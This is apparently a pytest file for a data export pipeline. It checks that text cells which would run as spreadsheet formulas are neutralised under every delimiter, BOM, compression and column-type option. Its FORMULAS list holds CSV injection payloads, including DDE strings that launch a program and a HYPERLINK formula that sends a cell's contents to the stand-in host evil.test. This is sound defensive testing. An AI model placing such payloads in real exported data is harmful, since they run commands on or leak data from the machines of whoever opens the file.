"""Text that a spreadsheet would run, under every option that changes how a cell is written."""

import csv
import gzip
import io
from itertools import product

import pytest

from exports_pipeline_tests.tables import everything, exported

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\uff1d1+1",
    "=1+1;=2+2",
    '="a,b"',
    "=1\n=2",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HARMLESS = ["a=1", "'=1", " =1", "1-2", "", "x\n=1"]


def cells_of(body, delimiter):
    text = io.StringIO(body.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, delimiter=delimiter))


@pytest.mark.parametrize(("delimiter", "comma"), [(",", False), (";", True), ("\t", False), ("|", True)])
def test_no_cell_of_text_begins_like_a_formula(tables, delimiter, comma):
    values = FORMULAS + HARMLESS
    literals = ", ".join("'" + value.replace("'", "''") + "'" for value in values)
    dataset = tables.dataset(
        f"SELECT v AS plain, CAST(v AS ENUM ({literals})) AS label, [v] AS nested, {{'a': v}} AS field, "
        f"to_json(v) AS json, encode(v) AS bytes FROM (SELECT unnest([{literals}]) AS v)"
    )
    for bom, packed in product((False, True), (None, "gzip")):
        options = {"delimiter": delimiter, "decimal_comma": comma, "bom": bom, "compression": packed}
        body, rows = exported(tables.warehouse, everything(dataset), **options)
        lines = cells_of(gzip.decompress(body) if packed else body, delimiter)
        assert rows == len(lines) - 1 == len(values)
        assert [cell for line in lines for cell in line if cell.startswith(STARTS)] == []
        assert {line[0] for line in lines[1:]} == {f"'{each}" for each in FORMULAS} | set(HARMLESS)
